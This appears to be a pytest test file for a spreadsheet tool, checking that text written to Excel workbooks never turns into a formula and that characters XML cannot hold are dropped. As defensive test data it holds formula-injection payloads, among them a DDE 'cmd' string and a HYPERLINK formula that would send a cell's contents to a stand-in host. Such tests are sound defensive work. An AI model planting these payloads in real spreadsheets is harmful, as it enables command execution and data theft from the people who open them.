"""Nothing the tool writes is a formula: text from anyone stays a string cell (issue 13, item 1)."""

from __future__ import annotations

import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conftest import seed_rows, write_rows_xlsx
from seuranta_xl.files.workbook_io import save_workbook
from seuranta_xl.write.actions import Plan, ReplaceSheet, SetValues
from seuranta_xl.write.cells import engine_text, file_text, parsed_by_excel
from seuranta_xl.write.openpyxl_engine import apply_plan

PROFILE = settings(max_examples=25, deadline=None, derandomize=True,
                   suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])

escapes = st.integers(0, 0x7F).map(lambda n: f"_x{n:04X}_") | st.sampled_from(["_x005F_x0001_", "_x000d_", "_x0009_"])
prefixes = st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\n", " ", "#", "'", "\x01", "\x07", "\x1b"])
pieces = st.one_of(escapes, prefixes, st.text(max_size=6),
                   st.sampled_from(['HYPERLINK("http://e.invalid/")', "cmd|' /C calc'!A0", "1+1", "#N/A", "TRUE"]))
hostile = st.lists(pieces, min_size=1, max_size=6).map("".join)


def _formula_cells(path: Path) -> list[str]:
    wb = openpyxl.load_workbook(path)
    return [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def _raw(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n) for n in z.namelist()}


@pytest.fixture(scope="module")
def base(tmp_path_factory) -> Path:
    """A small workbook (the property is about cells, and each example opens and saves it)."""
    return write_rows_xlsx(seed_rows()[:20], tmp_path_factory.mktemp("base") / "seed.xlsx")


@PROFILE
@given(texts=st.lists(hostile, min_size=1, max_size=8))
def test_random_text_is_never_a_formula(texts, base, tmp_path_factory):
    out = tmp_path_factory.mktemp("out") / "out.xlsx"
    wb = openpyxl.load_workbook(base, rich_text=True)
    apply_plan(wb, Plan(actions=[
        SetValues(sheet="Seuranta", anchor="K20", values=[texts]),
        ReplaceSheet(name="Listat", rows=[["Otsikko"]] + [[t] for t in texts]),
    ]))
    save_workbook(wb, base, out, force=True)
    assert _formula_cells(out) == []
    parts = _raw(out)
    sheets = b"".join(v for k, v in parts.items() if k.startswith("xl/worksheets/"))
    assert b"<f>" not in sheets and b"<f " not in sheets
    assert b"fullCalcOnLoad" not in parts["xl/workbook.xml"]
    # Read back as Excel reads it (python-calamine decodes _xHHHH_ as Excel does): each string is
    # the text that was meant, a literal "_x0001_" included.
    from python_calamine import CalamineWorkbook

    rows = CalamineWorkbook.from_path(str(out)).get_sheet_by_name("Listat").to_python(skip_empty_area=False)
    got = [row[0] if row else "" for row in rows[1:]]
    # (openpyxl writes no xml:space="preserve", so blanks at the ends of a text do not survive)
    assert [g.strip() for g in got + [""] * (len(texts) - len(got))] == [engine_text(t).strip() for t in texts]


def test_the_reported_attacks_stay_text(tmp_path, run_cli):
    """A goal name and a lists entry with Excel's escape before "=" (as in the issue) after `run`."""
    rows = seed_rows()
    rows[13][0] = "01. PLACEHOLDER_GOAL"
    src = write_rows_xlsx(rows, tmp_path / "plain.xlsx")
    attack = b'_x0001_=HYPERLINK(&quot;http://e.invalid/?d=&quot;&amp;Seuranta!G15)'
    hostile_path = tmp_path / "hostile.xlsx"
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(hostile_path, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info)
            zout.writestr(info, data.replace(b"01. PLACEHOLDER_GOAL", b"01. " + attack)
                          .replace(b">01. " + attack, b">" + attack)
                          .replace(b' fullCalcOnLoad="1"', b""))  # openpyxl's default: not the person's
    out = tmp_path / "out.xlsx"
    code, _out, err = run_cli("run", hostile_path, "-o", out)
    assert code == 1, err  # the goal's name is no code: hierarchy errors
    assert _formula_cells(out) == []
    assert b"fullCalcOnLoad" not in _raw(out)["xl/workbook.xml"]


def test_recalculation_on_open_only_for_the_persons_own_formulas(tmp_path):
    """openpyxl marks every workbook it saves fullCalcOnLoad; only one with formulas keeps it."""
    src = write_rows_xlsx(seed_rows(), tmp_path / "a.xlsx")
    assert b'fullCalcOnLoad="1"' in _raw(src)["xl/workbook.xml"]  # openpyxl's own default
    save_workbook(openpyxl.load_workbook(src), src, tmp_path / "b.xlsx")
    assert b"fullCalcOnLoad" not in _raw(tmp_path / "b.xlsx")["xl/workbook.xml"]
    wb = openpyxl.load_workbook(src)
    wb.active["K1"] = "=1+1"  # the person's own formula
    wb.save(tmp_path / "c.xlsx")
    save_workbook(openpyxl.load_workbook(tmp_path / "c.xlsx"), tmp_path / "c.xlsx", tmp_path / "d.xlsx")
    assert b'fullCalcOnLoad="1"' in _raw(tmp_path / "d.xlsx")["xl/workbook.xml"]
    assert _formula_cells(tmp_path / "d.xlsx") == ["Seuranta!K1"]


@pytest.mark.parametrize("text, parsed", [
    ("\x01=HYPERLINK(1)", True), ("  =1", True), ("\t+1", True), ("-x", True), ("@x", True), ("'x", True),
    ("01.05", True), ("tosi", True), ("Talousjohtaja", False), ("_x0001_", False), ("a=b", False),
])
def test_parsed_by_excel(text, parsed):
    assert parsed_by_excel(text) is parsed


def test_file_text_escapes_a_literal_escape():
    assert file_text("a_x0001_b\x02") == "a_x005F_x0001_b"
    assert file_text("_x005F_x0001_") == "_x005F_x005F_x005F_x0001_"
    assert engine_text("\x01=1\t\r\n") == "=1\t\r\n"


NOT_XML = ["\ufffe", "\uffff", "\ud800", "\udfff", "\x00", "\x1f"]


@pytest.mark.parametrize("char", NOT_XML)
def test_characters_xml_cannot_hold_are_dropped_by_every_writer(char):
    """XML 1.0 has no U+FFFE, U+FFFF, surrogates or C0 controls (but tab, LF, CR): a part holding one
    is not well-formed and Excel "repairs" it. Every writer drops them: both engines, escaping."""
    from seuranta_xl.write.package.cells import value_xml
    from seuranta_xl.write.package.spans import esc, esc_text

    assert engine_text(f"a{char}b") == file_text(f"a{char}b") == "ab"
    assert value_xml("A1", f"a{char}b", None) == b'<c r="A1" t="inlineStr"><is><t>ab</t></is></c>'
    assert esc(f'"{char}"') == "&quot;&quot;" and esc_text(f"<{char}") == "&lt;"


def test_a_text_export_with_characters_xml_cannot_hold_imports_to_a_well_formed_workbook(tmp_path, run_cli):
    from xml.dom import minidom

    lines = (Path(__file__).parent / "data" / "seed_report.txt").read_text(encoding="utf-8").split("\n")
    cols = lines[15].split("\t")  # row 16: an action
    cols[6], cols[7] = "Eteni \uffff hyvin\ufffe", cols[7] + "\x01"
    lines[15] = "\t".join(cols)
    (tmp_path / "r.txt").write_text("\n".join(lines), encoding="utf-8")
    code, _out, err = run_cli("import", tmp_path / "r.txt", "-o", tmp_path / "r.xlsx")
    assert code == 0, err
    code, _out, err = run_cli("run", tmp_path / "r.xlsx", "-o", tmp_path / "ran.xlsx")
    assert code in (0, 1), err
    for path in (tmp_path / "r.xlsx", tmp_path / "ran.xlsx"):
        for name, data in _raw(path).items():
            if name.endswith((".xml", ".rels")):
                minidom.parseString(data)  # well-formed, or ExpatError
    assert openpyxl.load_workbook(tmp_path / "r.xlsx").active["G16"].value == "Eteni  hyvin"


@pytest.mark.parametrize("char", [b"\xef\xbf\xbf", b"\xed\xa0\x80", b"\x01"])
def test_a_sheet_holding_characters_xml_cannot_hold_is_refused_as_damaged(char, tmp_path, run_cli):
    """Such a part is not XML (Excel repairs it, dropping content); the quick pre-scan gives it to
    expat, which refuses it in one line naming the part - as when the sheet holds a formula."""
    src = write_rows_xlsx(seed_rows(), tmp_path / "ok.xlsx")
    bad = tmp_path / "bad.xlsx"
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(bad, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                row = b'<row r="999"><c r="A999" t="inlineStr"><is><t>x' + char + b"</t></is></c></row>"
                data = data.replace(b"</sheetData>", row + b"</sheetData>")
                assert char in data
            zout.writestr(info, data)
    code, out, err = run_cli("validate", bad)
    assert code == 2 and out == ""
    assert "xl/worksheets/sheet1.xml" in err and len(err.strip().splitlines()) == 1


@pytest.mark.parametrize("text", ["_x0041_x0042_", "_x005F_x0001_", "a_x000D_b\r", "_x0041__x0042_"])
def test_both_engines_store_a_literal_escape_so_it_reads_back(text):
    """Overlapping escape-shaped runs: the package engine wrote "_x0041_x0042_" with only the first
    escaped, so readers showed "_x0041B"; both engines now share stored_text."""
    from seuranta_xl.write.cells import stored_text
    from seuranta_xl.write.package.cells import clean_text, read_text

    assert read_text(clean_text(text)) == text
    assert clean_text(text) == stored_text(text)
